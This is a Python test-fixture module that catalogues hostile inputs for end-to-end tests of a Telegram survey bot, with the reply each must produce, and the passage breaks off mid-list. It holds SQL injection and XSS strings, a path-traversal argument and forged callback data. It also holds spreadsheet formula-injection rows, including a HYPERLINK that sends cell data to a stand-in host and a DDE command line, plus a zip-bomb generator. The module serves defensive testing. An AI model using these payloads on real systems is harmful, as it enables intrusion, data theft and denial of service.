"""The hostile input corpus: what people (and forgers) send to Tangguh, and what must come back.

Each :class:`Case` names who sends it (a key of the world that ``tests/e2e/test_hostile.py`` builds),
what is sent (a text or command, possibly as an edit of an earlier message; callback data; or a
document with its file name and declared size), and what is expected: a reply matching one of the
locale ``keys`` or the ``pattern``, showing ``echo`` literally when given (proof that markup in it
was escaped, not interpreted), and the database tables that may change (normally none). The cases
fall into four groups; one Application serves each group.

Senders:

``kader``              a kader whose open interview waits for a typed number (children 0–17, 0..30)
``kader_choice``       a kader whose open interview waits for a button (the first question)
``kader_home``         a kader with families and no open interview: typed text searches the list
``kader_money``        a kader whose open interview waits for a typed amount (income, up to Rp 1 M)
``kader_members``      a kader whose open interview waits for a typed count of at least 1
``admin``              an admin with no dialog open
``importer``           an admin who has just sent /import
``admin_head``         an admin adding a household, asked for the head's name
``admin_rt``           an admin adding a household, asked for the RT number
``admin_kader_step``   an admin adding a household (head and address full of markup), asked for
                       its kader by buttons
``admin_invite_name``  an admin inviting a kader, asked for the name
``official``, ``coordinator``, ``deactivated`` (a kader switched off), ``stranger``

Callback data may name ``{a_interview}``, ``{a_household}``, ``{a_person}`` (of ``kader``),
``{b_interview}``, ``{b_household}`` (of ``kader_choice``), ``{c_household}`` (of ``kader_home``,
another kelurahan), ``{c_markup_household}`` (of ``kader_home``, headed by ``MARKUP_HEAD``),
``{gone_person}`` (the deactivated kader, named ``MARKUP_PERSON``), ``{admin_person}`` and ``{missing}``
(an id nobody has). The ``kader``'s family is headed by ``MARKUP_HEAD`` too.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass

import openpyxl

from flows.imports import TEMPLATE_HEADERS

GROUPS = ("answers", "texts", "commands", "forged", "callbacks", "files")
MISSING = 987654
MAX_ROWS = 2000
"""``imports.max_rows`` while the corpus runs (config.yaml has 20000: openpyxl needs over 10 s to read
a sheet one row longer, and the limit is the same code at any value)."""
MAX_BYTES = 10_000_000
"""``imports.max_bytes`` of config.yaml."""
FORGED, TRUNCATED = "forged callback data", "truncated callback data"

Keys = tuple[str, ...]


@dataclass(frozen=True)
class Document:
    """A file as sent: its name, its bytes (built on demand) and the size Telegram declares."""

    name: str
    build: Callable[[], bytes]
    declared_size: int | None = None  # None: the real length


@dataclass(frozen=True)
class Case:
    """One hostile input and what must come back."""

    id: str
    category: str
    sender: str
    text: str | None = None
    data: str | None = None
    document: Document | None = None
    keys: Keys = ()
    pattern: str | None = None
    echo: str | None = None
    may_change: frozenset[str] = frozenset()
    on: str = "last"  # the message a callback is pressed on: "last", or "interview" (the kader's)
    cut: int | None = None  # the callback data cut to this many bytes (a truncated payload)
    await_call: str | None = None  # the Bot API method that ends the reply, sent off the event loop
    edited: bool = False  # the text arrives as an edit of an earlier message of the sender
    message: dict[str, object] | None = None  # a message that is not text (sticker, photo, location...)

    @property
    def group(self) -> str:
        """Which run (one Application each) the case belongs to."""
        if self.document is not None:
            return "files"
        if self.data is not None:
            return "forged" if self.category in {FORGED, TRUNCATED} else "callbacks"
        if self.sender in {"kader", "kader_money", "kader_members"} and not self.edited:
            return "commands" if self.text and self.text.startswith("/") else "answers"
        if self.message is not None:
            return "texts"
        assert self.text is not None
        return "commands" if self.text.startswith("/") and not self.edited else "texts"


# --- expectations and hostile strings --------------------------------------------------------------

NUMBER_PROBLEMS: Keys = ("number_empty", "number_negative", "number_not_a_number", "number_not_whole",
                         "number_too_small", "number_too_large", "number_expected")
REFUSED_BUTTON: Keys = ("unknown_button", "not_yours", "already_answered")
UNKNOWN: Keys = ("unknown_button",)
DIALOG = frozenset({"dialogs"})
PREVIEW = frozenset({"imports", "dialogs"})  # a preview is saved, the /import dialog closed
HOME = r"Keluarga yang Anda data"

SQL = "'; DROP TABLE households; --"
HTML = {
    "bold_open": "<b>tebal",
    "italic_close": "miring</i>",
    "script": "<script>alert(1)</script>",
    "entity": "&amp; &lt;b&gt; &bogus; &#60;",
    "unbalanced": "<b><i>x</b></i>",
    "link": '<a href="javascript:alert(1)">klik</a>',
    "lone_lt": "1 < 2 > 0",
}
MARKDOWN = "*tebal* _miring_ [tautan](http://contoh.id) `kode` ```blok``` ~coret~ ||spoiler||"
EMOJI = "👨‍👩‍👧‍👦🇮🇩🙂" * 3
ARABIC = "مرحبا بالعالم ١٢٣"
HEBREW = "שלום עולם"
BIDI = "\u202eabc\u202c\u2066x\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\ufeff"
CONTROL = "a\x00b\x07c\x1bd\x7f"
COMBINING = "Z\u0351\u0356\u0307\u0336a\u0335\u0313\u0337l\u0301\u0302\u0303g\u0304o" * 20
LONG_4097 = "A" * 4097
LONG_100K = ("Keluarga Tangguh ✨ " * 6000)[:100_000]
CODE_SHAPED = "Zz" * 16  # the shape of an invitation code, but nobody's
MARKUP_HEAD = "<b>Ani</i> & Co 'OR 1=1"
MARKUP_PERSON = "<i>Eka</i> & Co"
MESSAGES: dict[str, dict[str, object]] = {  # messages without text, as Telegram sends them
    "sticker": {"sticker": {"file_id": "st1", "file_unique_id": "ust1", "type": "regular", "width": 512,
                            "height": 512, "is_animated": False, "is_video": False}},
    "photo_caption": {"photo": [{"file_id": "ph1", "file_unique_id": "uph1", "width": 90, "height": 90}],
                      "caption": "<b>3</b> anak"},
    "location": {"location": {"latitude": -3.44, "longitude": 114.83}},
    "contact": {"contact": {"phone_number": "+6281234567890", "first_name": "<b>Budi"}},
    "voice": {"voice": {"file_id": "vo1", "file_unique_id": "uvo1", "duration": 3}},
    "dice": {"dice": {"emoji": "🎲", "value": 3}},
}


def _texts() -> list[Case]:
    """Free text where the bot expects a number, a button, a search, a dialog step, or nothing."""
    cases: list[Case] = []
    numbers = [  # mid-interview at a count of 0..30: out of range, negative, huge, units, words
        ("negative", "-5", "number_negative"), ("unicode_minus", "\u22125", "number_negative"),
        ("minus_word", "minus lima", "number_negative"), ("negative_zero", "-0", "number_negative"),
        ("just_over", "31", "number_too_large"), ("huge", "9" * 40, "number_too_large"),
        ("huge_100k_digits", "7" * 100_000, "number_too_large"),
        ("words_over", "tiga puluh satu", "number_too_large"),
        ("words_hundred", "seratus", "number_too_large"), ("words_million", "satu juta", "number_too_large"),
        ("fullwidth_over", "\uff11\uff10\uff10", "number_too_large"),
        ("decimal", "2,5", "number_not_whole"), ("half_word", "dua setengah", "number_not_whole"),
        ("exponent", "1e9", "number_not_a_number"), ("nan", "NaN", "number_not_a_number"),
        ("infinity", "Infinity", "number_not_a_number"), ("hex", "0x1F", "number_not_a_number"),
        ("vulgar_fraction", "½", "number_not_a_number"), ("arabic_digit", "٣", "number_not_a_number"),
        ("superscript", "3²", "number_not_a_number"), ("combining", "3\u0301", "number_not_a_number"),
        ("wrong_unit", "3 ekor", "number_not_a_number"), ("money_unit", "Rp 5", "number_not_a_number"),
        ("two_numbers", "3 3", "number_not_a_number"),
        ("sql", "3; DROP TABLE answers; --", "number_not_a_number"),
        ("html", "<b>3</b>", "number_not_a_number"), ("only_zero_width", ZERO_WIDTH, "number_empty"),
        ("keycap", "3️⃣", "number_not_a_number"), ("keycap_ten", "🔟", "number_not_a_number"),
    ]
    cases += [Case(f"number_{name}", "numbers", "kader", text=typed, keys=(key,))
              for name, typed, key in numbers]
    anything = [("long_4097", LONG_4097), ("long_100k", LONG_100K), ("emoji", EMOJI), ("arabic", ARABIC),
                ("hebrew", HEBREW), ("bidi", BIDI), ("control", CONTROL), ("combining", COMBINING),
                ("markdown", MARKDOWN), ("sql", SQL), *HTML.items()]
    cases += [Case(f"at_number_{name}", "mid-interview text", "kader", text=typed, keys=NUMBER_PROBLEMS)
              for name, typed in anything]
    money = [  # an amount up to Rp 1.000.000.000
        ("over_max", "Rp 2 miliar", "number_too_large"), ("over_parser", "99 triliun", "number_too_large"),
        ("negative", "Rp -500.000", "number_negative"), ("cents", "1.500.000,50", "number_not_whole"),
        ("ambiguous", "2 juta 500", "number_not_a_number"),
        ("bad_grouping", "1.50.000", "number_not_a_number"), ("exponent", "Rp 1e6", "number_not_a_number"),
        ("scales_reversed", "satu ribu dua juta", "number_not_a_number"),
        ("dollar", "$100", "number_not_a_number"), ("html", "<b>Rp 1 juta</b>", "number_not_a_number"),
        ("sql", "1,5 juta; DROP TABLE answers", "number_not_a_number"),
    ]
    cases += [Case(f"money_{name}", "numbers", "kader_money", text=typed, keys=(key,))
              for name, typed, key in money]
    cases += [Case(f"members_{name}", "numbers", "kader_members", text=typed, keys=("number_too_small",))
              for name, typed in [("zero", "0"), ("zero_word", "nol"), ("none", "tidak ada")]]
    cases += [Case(f"message_{name}", "messages without text", "kader", message=message,
                   keys=("not_understood",)) for name, message in MESSAGES.items()]
    cases += [Case("message_sticker_stranger", "messages without text", "stranger",
                   message=MESSAGES["sticker"], keys=("stranger",)),
              Case("message_location_official", "messages without text", "official",
                   message=MESSAGES["location"], keys=("not_understood",))]
    at_button = [("yes", "ya"), ("option_label", "Ya, tercatat"), ("digit", "1"), ("long_100k", LONG_100K),
                 ("html", HTML["script"]), ("sql", SQL), ("emoji", EMOJI), ("rtl", ARABIC)]
    cases += [Case(f"button_expected_{name}", "text instead of a button", "kader_choice", text=typed,
                   keys=("press_a_button",)) for name, typed in at_button]
    searches = [  # no open interview: a search, and what was typed shows literally
        ("html_bold", "<b>tebal", "<b>tebal"), ("html_script", HTML["script"], "<script>alert(1)</scr"),
        ("html_entity", "&bogus; &amp;", "&bogus; &amp;"),
        ("unbalanced", HTML["unbalanced"], HTML["unbalanced"]),
        ("markdown", "*tebal* _m_ [a](b)", "*tebal* _m_ [a](b)"), ("sql", SQL, SQL), ("emoji", EMOJI, None),
        ("arabic", ARABIC, ARABIC), ("hebrew", HEBREW, HEBREW), ("bidi", BIDI, None),
        ("zero_width", ZERO_WIDTH, None), ("control", CONTROL, None), ("combining", COMBINING, None),
        ("long_4097", LONG_4097, "A" * 40), ("long_100k", LONG_100K, None), ("wildcards", "%_%", "%_%"),
    ]
    cases += [Case(f"search_{name}", "search text", "kader_home", text=typed, keys=("home_no_match",),
                   echo=echo) for name, typed, echo in searches]
    cases.append(Case("search_finds_markup_name", "search text", "kader_home", text="<b>Ani",
                      keys=("home_search_result",), echo="<b>Ani"))
    for sender, key in [("admin", "help"), ("official", "help"), ("coordinator", "help"),
                        ("stranger", "stranger"), ("deactivated", "stranger")]:
        for name, typed in [("long_100k", LONG_100K), ("html", HTML["unbalanced"]),
                            ("rtl_zero_width", BIDI + ZERO_WIDTH + ARABIC)]:
            cases.append(Case(f"{sender}_{name}", "text from other roles", sender, text=typed, keys=(key,)))
    edits = [  # read again, an edited "3" would answer whatever question is asked now
        ("kader", "3", "edited_ignored"), ("kader_choice", "ya", "edited_ignored"),
        ("kader_home", "Keluarga", "edited_ignored"), ("admin_head", "Budi", "edited_ignored"),
        ("admin", "/erase GM-001", "edited_ignored"), ("stranger", "/start", "stranger"),
    ]
    cases += [Case(f"edited_{sender}", "edited messages", sender, text=typed, keys=(key,), edited=True)
              for sender, typed, key in edits]
    heads = [("html", HTML["script"], "household_ask_address"),
             ("too_long", "Budi " * 60, "household_bad_text"),
             ("zero_width", ZERO_WIDTH, "household_bad_text"), ("control", "\x00\x01", "household_bad_text")]
    cases += [Case(f"household_head_{name}", "household dialog", "admin_head", text=typed, keys=(key,),
                   may_change=DIALOG) for name, typed, key in heads]
    rts = [("words", "tujuh belas"), ("negative", "-1"), ("huge", "9" * 30),
           ("sql", "7; DROP TABLE households"), ("html", "<b>7</b>")]
    cases += [Case(f"household_rt_{name}", "household dialog", "admin_rt", text=typed,
                   keys=("household_bad_number",)) for name, typed in rts]
    cases.append(Case("household_kader_step_text", "household dialog", "admin_kader_step", text="Siti",
                      keys=("press_a_button",)))
    names = [("html", "<b>Siti</i> & Co", "invite_choose_kelurahan", "<b>Siti</i> & Co"),
             ("zero_width", ZERO_WIDTH, "invite_bad_name", None),
             ("long", "Siti " * 40, "invite_bad_name", None)]
    cases += [Case(f"invite_name_{name}", "invite dialog", "admin_invite_name", text=typed, keys=(key,),
                   echo=echo, may_change=DIALOG) for name, typed, key, echo in names]
    return cases


def _commands() -> list[Case]:
    """Commands with odd arguments, for another bot, or not the sender's to use."""
    rows: list[tuple[str, str, str, Keys | str]] = [  # id, sender, text, keys (or a pattern)
        ("start_garbage", "kader", "/start ' OR 1=1 --", HOME),
        ("start_code_shaped", "kader", f"/start {CODE_SHAPED}", ("invite_unknown",)),
        ("start_long", "kader", "/start " + "x" * 5000, HOME),
        ("start_other_bot", "kader", "/start@otherbot", ("not_understood",)),
        ("survey_other_bot", "kader", "/survey@otherbot abc", ("not_understood",)),
        ("start_this_bot", "kader_home", "/start@tangguh_test_bot <b>", HOME),
        ("unknown_command", "kader", "/hapus_semua", ("not_understood",)),
        ("upper_case_command", "kader_home", "/SURVEY", HOME),
        ("language_klingon", "kader", "/language klingon", ("language_choose",)),
        ("help_args", "kader", "/help <script>alert(1)</script>", ("help",)),
        ("kader_import", "kader", "/import semua.xlsx", ("not_allowed",)),
        ("kader_export", "kader", "/export xyz", ("not_allowed",)),
        ("kader_digest", "kader", "/digest weird", ("not_allowed",)),
        ("kader_household_sql", "kader", f"/household {SQL}", ("not_allowed",)),
        ("official_survey", "official", f"/survey {SQL}", ("kader_only",)),
        ("coordinator_erase", "coordinator", "/erase *", ("not_allowed",)),
        ("stranger_start_garbage", "stranger", "/start <b>x</b>", ("stranger",)),
        ("stranger_start_code_shaped", "stranger", f"/start {CODE_SHAPED}", ("invite_unknown",)),
        ("stranger_start_other_bot", "stranger", f"/start@otherbot {CODE_SHAPED}", ("stranger",)),
        ("stranger_import", "stranger", "/import", ("stranger",)),
        ("deactivated_start_code_shaped", "deactivated", f"/start {CODE_SHAPED}", ("invite_unknown",)),
        ("admin_digest_weird", "admin", "/digest weird", ("digest_usage",)),
        ("admin_digest_injection", "admin", "/digest preview'--", ("digest_usage",)),
        ("admin_erase_long", "admin", "/erase " + "X" * 5000, ("household_unknown",)),
        ("admin_reopen_long_words", "admin", "/reopen " + "kode " * 1500, ("household_unknown",)),
        ("admin_assign_sql", "admin", f"/assign {SQL} ke Siti", ("assign_unknown_households",)),
        ("admin_assign_long", "admin", "/assign " + " ".join(f"GM-{n}" for n in range(1200)) + " ke Siti",
         ("assign_unknown_households",)),
        ("admin_assign_no_kader", "admin", "/assign ke", ("assign_usage",)),
        ("admin_invite_bad_role", "admin", "/invite klingon Budi Komet", ("invite_unknown_role",)),
        ("admin_invite_zero_width", "admin", f"/invite kader {ZERO_WIDTH} Komet", ("invite_bad_name",)),
        ("admin_invite_html_agency", "admin", "/invite petugas Budi <b>DINSOS</b>",
         ("invite_unknown_agency",)),
        ("admin_invite_long_name", "admin", "/invite kader " + "Budi " * 500 + "Komet", ("invite_bad_name",)),
        ("admin_audit_args", "admin", "/audit ' OR 1=1", ("audit_empty", "audit_title")),
        ("admin_people_args", "admin", "/people <b>semua", ("people_title",)),
    ]
    cases = [Case(case_id, "commands", sender, text=text, keys=expect if isinstance(expect, tuple) else (),
                  pattern=expect if isinstance(expect, str) else None)
             for case_id, sender, text, expect in rows]
    return cases + [
        Case("admin_reopen_sql", "commands", "admin", text=f"/reopen {SQL}", keys=("household_unknown",),
             echo=SQL),
        Case("admin_erase_html", "commands", "admin", text="/erase <b>GM-001", keys=("household_unknown",),
             echo="<b>GM-001"),
        Case("admin_assign_html", "commands", "admin", text="/assign <b>X ke <i>Y",
             keys=("assign_unknown_households",), echo="<b>X"),
        Case("admin_assign_markup_kader", "commands", "admin", text=f"/assign K1-001 ke {MARKUP_PERSON}",
             keys=("assign_unknown_kader",), echo=MARKUP_PERSON),  # deactivated: not a kader to assign to
        Case("admin_import_args", "commands", "admin", text="/import ../../etc/passwd",
             keys=("import_ask_file",), may_change=DIALOG),
        Case("admin_household_injection", "commands", "admin", text=f"/household {SQL} <b>",
             keys=("household_ask_code",), may_change=DIALOG),
        Case("admin_export_args", "commands", "admin", text="/export xyz", keys=("export_preparing",),
             may_change=frozenset({"audit_log"}), await_call="sendDocument"),  # an export is audited
    ]


def _callbacks() -> list[Case]:
    """Forged, truncated and foreign callback data, and buttons that are not the sender's."""
    forged = [
        ("empty", ""), ("bad_version", "v2:h:{a_household}"), ("old_version", "v0:h:1"),
        ("upper_version", "V1:h:{a_household}"), ("unknown_action", "v1:z:1"), ("no_fields", "v1:h"),
        ("extra_field", "v1:h:{a_household}:1"), ("non_numeric_id", "v1:h:abc"), ("negative_id", "v1:h:-1"),
        ("zero_id", "v1:h:0"), ("float_id", "v1:h:1.5"), ("fullwidth_id", "v1:h:\uff11"),
        ("arabic_id", "v1:h:١"), ("huge_id", "v1:h:99999999999"), ("too_long", "v1:h:" + "1" * 70),
        ("emoji", "v1:h:🙂"), ("sql_option", "v1:a:{a_interview}:children_0_17:' OR 1=1"),
        ("html", "v1:h:<b>1</b>"), ("zero_width", "v1:h:1\u200b"), ("bad_mask", "v1:t:{a_interview}:x:xyz"),
        ("language_upper", "v1:g:EN"), ("bad_role", "v1:I:root"), ("page_negative", "v1:l:-1"),
        ("verb_upper", "v1:y:ERASE:1"),
    ]
    cases = [Case(f"forged_{name}", FORGED, "kader", data=data, keys=UNKNOWN)
             for name, data in forged]
    back = "v1:b:{a_interview}:children_0_17"  # the kader's "back" button at the current question
    cases += [Case(f"truncated_{length:02d}", TRUNCATED, "kader", data=back, cut=length,
                   keys=REFUSED_BUTTON, on="interview")
              for length in range(len(back.format(a_interview=1)))]  # interview ids have 1 digit or more
    foreign = [
        ("household", "v1:h:{b_household}"), ("consent", "v1:c:{b_household}"),
        ("consent_other_kelurahan", "v1:c:{c_household}"),
        ("answer", "v1:a:{b_interview}:marriage_registered:yes"),
        ("refuse", "v1:r:{b_interview}:marriage_registered"),
        ("toggle", "v1:t:{b_interview}:marriage_registered:1"),
        ("done", "v1:d:{b_interview}:marriage_registered:1"), ("back", "v1:b:{b_interview}:-"),
        ("pause", "v1:p:{b_interview}"), ("edit", "v1:e:{b_interview}:marriage_registered"),
        ("submit", "v1:s:{b_interview}"), ("resume", "v1:u:{b_interview}"),
        ("missing_household", "v1:h:{missing}"),
        ("missing_consent", "v1:c:{missing}"), ("missing_interview", "v1:u:{missing}"),
        ("missing_answer", "v1:a:{missing}:children_0_17:yes"),
    ]
    cases += [Case(f"foreign_{name}", "foreign or missing ids", "kader", data=data, keys=("not_yours",))
              for name, data in foreign]
    own: list[tuple[str, str, Keys]] = [  # the kader's own interview, payloads no real button carries
        ("mask_on_number", "v1:t:{a_interview}:children_0_17:ff", ("not_yours",)),
        ("done_on_number", "v1:d:{a_interview}:children_0_17:0", ("number_expected",)),
        ("word_as_option", "v1:a:{a_interview}:children_0_17:lima", ("not_yours",)),
        ("refuse_required", "v1:r:{a_interview}:children_0_17", ("refusal_not_allowed",)),
        ("edit_not_at_review", "v1:e:{a_interview}:marriage_registered", ("already_answered",)),
        ("submit_unfinished", "v1:s:{a_interview}", ("already_answered",)),
        ("other_question", "v1:a:{a_interview}:marriage_registered:yes", ("already_answered",)),
        ("unknown_question", "v1:a:{a_interview}:no_such_question:yes", ("already_answered",)),
        ("unknown_language", "v1:g:xx", UNKNOWN),
        ("ask_dialog", "v1:x:dialog:{a_person}", UNKNOWN), ("ask_pause", "v1:x:pause:{a_household}", UNKNOWN),
    ]
    cases += [Case(f"own_{name}", "own interview, impossible payloads", "kader", data=data, keys=keys)
              for name, data, keys in own]
    cases.append(Case("own_list_page_huge", "own interview, impossible payloads", "kader", data="v1:l:9999",
                      pattern=HOME))
    others = [
        ("kader", "v1:y:erase:{a_household}"), ("kader", "v1:x:deactivate:{admin_person}"),
        ("kader", "v1:m:{a_person}:0"), ("kader", "v1:x:nosuchverb:1"), ("official", "v1:h:{a_household}"),
        ("official", "v1:y:import:1"), ("coordinator", "v1:a:{a_interview}:children_0_17:yes"),
    ]
    cases += [Case(f"{sender}_admin_button_{number}", "buttons of other roles", sender, data=data,
                   keys=("not_allowed",)) for number, (sender, data) in enumerate(others)]
    cases += [Case(f"{sender}_{name}", "buttons of other roles", sender, data=data, keys=("stranger",))
              for sender in ("stranger", "deactivated")
              for name, data in [("household", "v1:h:{a_household}"), ("garbage", "\x00\x01"),
                                 ("confirm", "v1:y:erase:{a_household}")]]
    admin: list[tuple[str, str, Keys]] = [
        ("ask_dialog", "v1:x:dialog:{admin_person}", UNKNOWN),
        ("ask_reactivate", "v1:x:reactivate:{a_person}", UNKNOWN),
        ("ask_revoke", "v1:x:revoke:{a_person}", UNKNOWN), ("ask_keep", "v1:x:keep:{a_household}", UNKNOWN),
        ("ask_import", "v1:x:import:{a_household}", UNKNOWN),
        ("ask_household", "v1:x:household:{a_household}", UNKNOWN),
        ("confirm_self", "v1:y:deactivate:{admin_person}", UNKNOWN),
        ("confirm_missing", "v1:y:erase:{missing}", UNKNOWN),
        ("confirm_move", "v1:y:move:{a_person}", UNKNOWN),
        ("confirm_missing_import", "v1:y:import:{missing}", ("import_gone",)),
        ("confirm_missing_keep", "v1:y:keep:{missing}", UNKNOWN),
        ("confirm_reopen_draft", "v1:y:reopen:{a_household}", ("already_answered",)),
        ("move_admin", "v1:m:{admin_person}:0", UNKNOWN), ("move_far", "v1:m:{a_person}:99", UNKNOWN),
        ("person_missing", "v1:Q:{missing}", UNKNOWN), ("people_page_huge", "v1:P:9999", ("people_title",)),
        ("pick_without_dialog", "v1:K:0", ("already_answered",)),
        ("role_without_dialog", "v1:I:admin", ("already_answered",)),
        ("save_without_dialog", "v1:y:household:{admin_person}", ("already_answered",)),
    ]
    cases += [Case(f"admin_{name}", "admin buttons that do not apply", "admin", data=data, keys=keys)
              for name, data, keys in admin]
    return cases + [
        Case("markup_household_card", "stored markup shown", "kader_home", data="v1:h:{c_markup_household}",
             keys=("household_card",), echo=MARKUP_HEAD),
        Case("markup_person_card", "stored markup shown", "admin", data="v1:Q:{gone_person}",
             keys=("person_card",), echo=MARKUP_PERSON),
        Case("markup_question_screen", "stored markup shown", "kader", data="v1:u:{a_interview}",
             pattern=r"usia 0–17 tahun", echo=MARKUP_HEAD),
        Case("household_summary_escaped", "household dialog", "admin_kader_step", data="v1:K:0",
             keys=("household_summary",), echo="<b>Budi</i> & Co", may_change=DIALOG),
        Case("household_pick_out_of_range", "household dialog", "admin_kader_step", data="v1:K:99",
             keys=("already_answered",)),
    ]


# --- files -----------------------------------------------------------------------------------------

GOOD_ROW = ("GM-901", "Ahmad Yani", "Jl. Mawar 1", "1", "2", "Guntung Manggis", "")
FORMULA_ROWS = (
    ("GM-911", '=HYPERLINK("http://jahat.example/?"&B2,"Klik")', "Jl. A", "1", "1", "Guntung Manggis", ""),
    ("GM-912", "Budi", "=cmd|' /C calc'!A0", "1", "1", "Guntung Manggis", ""),
    ("GM-913", "Citra", "Jl. C", "=1+1", "1", "Guntung Manggis", ""),
)


def headed(*rows: Sequence[str]) -> list[list[str]]:
    """The template's header row, then ``rows``."""
    return [list(TEMPLATE_HEADERS), *[list(row) for row in rows]]


def csv_file(rows: Sequence[Sequence[str]], *, delimiter: str = ",", encoding: str = "utf-8",
             prefix: bytes = b"") -> bytes:
    """Rows as CSV bytes."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return prefix + buffer.getvalue().encode(encoding)


def xlsx_file(rows: Sequence[Sequence[str]], *, title: str = "Keluarga",
              first_sheet_empty: bool = False) -> bytes:
    """Rows as an .xlsx (text starting with "=" is written as a real formula)."""
    book = openpyxl.Workbook(write_only=True)
    if first_sheet_empty:
        book.create_sheet("Kosong")
    sheet = book.create_sheet(title)
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def without_sheets() -> bytes:
    """An .xlsx whose workbook lists no sheet at all."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_file(headed(GOOD_ROW))))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/workbook.xml":
                text = data.decode()
                start, end = text.index("<sheets>"), text.index("</sheets>") + len("</sheets>")
                data = (text[:start] + "<sheets/>" + text[end:]).encode()
            if not item.filename.startswith("xl/worksheets/"):
                target.writestr(item, data)
    return buffer.getvalue()


def zip_of(entries: dict[str, bytes]) -> bytes:
    """A zip archive holding ``entries``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A 1 MB .xlsx-looking zip whose sheet unpacks to 260 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(260):
                sheet.write(bytes(2**20))
    return buffer.getvalue()


def truncated(fraction: float) -> Callable[[], bytes]:
    """A real household .xlsx cut off at ``fraction`` of its length."""
    def build() -> bytes:
        data = xlsx_file(headed(GOOD_ROW))
        return data[:max(4, int(len(data) * fraction))]
    return build


def many_rows(count: int) -> list[list[str]]:
    """``count`` distinct valid rows under the header."""
    return headed(*[(f"HX-{n:05d}", f"Kepala {n}", f"Jl. Panjang {n}", "1", "1", "Komet", "")
                    for n in range(count)])


def _files() -> list[Case]:
    """Documents: not what they claim, oversized, broken, booby-trapped, formulas, huge sheets."""
    png = b"\x89PNG\r\n\x1a\n" + bytes(200)
    good_csv = csv_file(headed(GOOD_ROW))
    markup_row = ("GM-903", "<b>Budi</b> & Co", SQL, "1", "2", "<i>Komet", "")
    nothing: frozenset[str] = frozenset()
    rows: list[tuple[str, str, Callable[[], bytes], int | None, Keys, frozenset[str]]] = [
        ("png_as_xlsx", "keluarga.xlsx", lambda: png, None, ("import_not_xlsx",), nothing),
        ("png_as_csv", "keluarga.csv", lambda: png, None, ("import_not_text",), nothing),
        ("binary_as_csv", "keluarga.csv", lambda: bytes(range(256)) * 40, None, ("import_not_text",),
         nothing),
        ("pdf_as_xlsx", "keluarga.xlsx", lambda: b"%PDF-1.7\n" + bytes(500), None, ("import_not_xlsx",),
         nothing),
        ("zip_without_workbook", "keluarga.xlsx", lambda: zip_of({"catatan.txt": b"halo"}), None,
         ("import_not_xlsx",), nothing),
        ("xls_extension", "keluarga.xls", lambda: good_csv, None, ("import_wrong_type",), nothing),
        ("double_extension", "keluarga.xlsx.exe", lambda: b"MZ" + bytes(100), None, ("import_wrong_type",),
         nothing),
        ("no_extension", "keluarga", lambda: good_csv, None, ("import_wrong_type",), nothing),
        ("html_extension", "keluarga.<b>", lambda: b"x", None, ("import_wrong_type",), nothing),
        ("entity_extension", "data.&bogus;", lambda: b"x", None, ("import_wrong_type",), nothing),
        ("empty_csv", "kosong.csv", lambda: b"", None, ("import_empty",), nothing),
        ("blank_csv", "kosong.csv", lambda: b" \r\n\t\r\n", None, ("import_empty",), nothing),
        ("empty_xlsx", "kosong.xlsx", lambda: b"", None, ("import_empty",), nothing),
        ("declared_oversize", "besar.xlsx", lambda: b"PK\x03\x04", 50_000_000, ("import_too_large",),
         nothing),
        ("real_oversize", "besar.csv", lambda: b"a," * (MAX_BYTES // 2 + 1), 1000, ("import_too_large",),
         nothing),
        ("zip_bomb", "bom.xlsx", zip_bomb, None, ("import_too_large",), nothing),
        ("truncated_start", "rusak.xlsx", truncated(0.05), None, ("import_broken_xlsx",), nothing),
        ("truncated_half", "rusak.xlsx", truncated(0.5), None, ("import_broken_xlsx",), nothing),
        ("truncated_end", "rusak.xlsx", truncated(0.97), None, ("import_broken_xlsx",), nothing),
        ("no_sheets", "kosong.xlsx", without_sheets, None, ("import_empty", "import_broken_xlsx"), nothing),
        ("first_sheet_empty", "lembar.xlsx", lambda: xlsx_file(headed(GOOD_ROW), first_sheet_empty=True),
         None, ("import_empty",), nothing),
        ("other_sheet_name", "lembar.xlsx", lambda: xlsx_file(headed(GOOD_ROW), title="Data <b>2026"), None,
         ("import_preview",), PREVIEW),
        ("no_header", "tanpa-judul.csv", lambda: csv_file([["1", "2", "3"], ["4", "5", "6"]]), None,
         ("import_no_header",), nothing),
        ("missing_columns", "kolom.csv", lambda: csv_file([["Nama", "Alamat"], ["Budi", "Jl. A"]]), None,
         ("import_missing_columns",), nothing),
        ("header_only", "judul.csv", lambda: csv_file(headed()), None, ("import_no_rows",), nothing),
        ("unclosed_quote", "kutip.csv", lambda: b'Kode KK,Nama\r\n"GM-1,Budi\r\n', None,
         ("import_csv_broken", "import_missing_columns"), nothing),
        ("too_many_rows_csv", "banyak.csv", lambda: csv_file(many_rows(MAX_ROWS + 1)), None,
         ("import_too_many_rows",), nothing),
        ("too_many_rows_xlsx", "banyak.xlsx", lambda: xlsx_file(many_rows(MAX_ROWS + 1)), None,
         ("import_too_many_rows",), nothing),
        ("formulas_xlsx", "rumus.xlsx", lambda: xlsx_file(headed(*FORMULA_ROWS)), None,
         ("import_nothing_new",), PREVIEW),
        ("formulas_csv", "rumus.csv", lambda: csv_file(headed(*FORMULA_ROWS)), None, ("import_nothing_new",),
         PREVIEW),
        ("utf16_semicolons", "keluarga.csv",
         lambda: csv_file(headed(GOOD_ROW), delimiter=";", encoding="utf-16"), None, ("import_preview",),
         PREVIEW),
        ("bom_sep_line", "keluarga.csv",
         lambda: csv_file(headed(GOOD_ROW), delimiter=";", prefix=b"\xef\xbb\xbfsep=;\r\n"), None,
         ("import_preview",), PREVIEW),
        ("cp1252_names", "keluarga.csv",
